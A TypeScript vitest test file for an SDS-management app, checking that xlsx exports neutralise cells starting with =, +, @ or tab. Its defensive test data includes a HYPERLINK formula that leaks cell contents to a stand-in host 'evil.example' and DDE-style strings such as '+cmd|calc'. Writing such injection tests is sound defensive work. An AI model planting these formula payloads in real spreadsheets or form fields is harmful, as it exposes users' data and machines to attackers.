import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readingToXlsx } from '@openfds/sds';
import type { SdsReading } from '@openfds/sds/types';
import { neutraliseFormula } from '@openfds/contract';
import { createTestContext, type TestContext } from '../../../test/context.ts';
import { pdfBytes } from '../../../test/catalogue-fixtures.ts';
import { makeUser } from '../../../test/factories.ts';
import { multipart } from '../../../test/multipart.ts';

/** Issue #22 item 13: formula-leading cells are neutralised in every xlsx export. */
const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

async function cells(payload: Buffer | Uint8Array): Promise<string[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(payload as unknown as ArrayBuffer);
  const out: string[] = [];
  for (const ws of workbook.worksheets) ws.eachRow((row) => row.eachCell((cell) => out.push(String(cell.value ?? ''))));
  return out;
}

describe('formula-leading cells', () => {
  let t: TestContext;
  let user: { id: number; login: string; cookie: string };
  beforeAll(async () => {
    t = await createTestContext();
    user = await makeUser(t.db);
    const body = multipart(
      { product_name: HOSTILE.slice(0, 100), supplier_name: '+cmd|calc', revision_date: '2024-01-01', language: 'en' },
      { name: 'sheet.pdf', type: 'application/pdf', bytes: pdfBytes('formula') },
    );
    const res = await t.app.inject({
      method: 'POST',
      url: `/api/v1/users/${encodeURIComponent(user.login)}/mySDS/documents`,
      payload: body.payload,
      headers: { ...body.headers, cookie: user.cookie },
    });
    expect(res.statusCode, res.body).toBe(201);
  }, 60_000);
  afterAll(async () => t?.close());

  it('says which texts are neutralised, and leaves plain values alone', () => {
    expect(neutraliseFormula('=1+1')).toBe("'=1+1");
    expect(neutraliseFormula('+33 1 00')).toBe("'+33 1 00");
    expect(neutraliseFormula('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(neutraliseFormula('\t=1')).toBe("'\t=1");
    expect(neutraliseFormula('-2+3+cmd|x')).toBe("'-2+3+cmd|x");
    expect(neutraliseFormula('-20 °C')).toBe('-20 °C');
    expect(neutraliseFormula('Acetone')).toBe('Acetone');
    expect(neutraliseFormula(12)).toBe(12);
  });

  it('in the my-FDS space workbook', async () => {
    const res = await t.app.inject({ method: 'GET', url: `/api/v1/users/${encodeURIComponent(user.login)}/mySDS/export`, headers: { cookie: user.cookie } });
    expect(res.statusCode).toBe(200);
    const all = await cells(res.rawPayload);
    expect(all).toContain(`'${HOSTILE.slice(0, 100)}`);
    expect(all.filter((c) => /^[=+@]/.test(c))).toEqual([]);
  });

  it('in the extracted-data workbook of the space and of a sheet (sds2excel)', async () => {
    const res = await t.app.inject({ method: 'GET', url: `/api/v1/users/${encodeURIComponent(user.login)}/mySDS/sds2excel`, headers: { cookie: user.cookie } });
    expect(res.statusCode).toBe(200);
    expect((await cells(res.rawPayload)).filter((c) => /^[=+@]/.test(c))).toEqual([]);
    const reading = {
      readerVersion: '1',
      language: 'en',
      format: 'eu-reach',
      pages: 1,
      sections: [],
      identification: {
        productName: '=1+1',
        productCode: '@x',
        ufi: null,
        supplierName: '+cmd',
        address: null,
        phone: null,
        email: null,
        emergencyPhone: null,
        revisionDate: null,
        version: null,
      },
      hazards: { classes: [], hStatements: [], euhStatements: [], pStatements: [], pictograms: [], signalWord: null },
      composition: { kind: null, components: [] },
      physical: { state: null, colour: null, odour: null, flashPoint: null, boilingPoint: null, pH: null, density: null, viscosity: null },
      transport: { unNumber: null, shippingName: '=EVIL()', transportClass: null, packingGroup: null, environmentalHazard: null },
      conformity: [],
      warnings: [],
      elapsedMs: 1,
    } as SdsReading;
    const sheet = await cells(await readingToXlsx(reading));
    expect(sheet).toEqual(expect.arrayContaining(["'=1+1", "'@x", "'+cmd", "'=EVIL()"]));
    expect(sheet.filter((c) => /^[=+@]/.test(c))).toEqual([]);
  });
});
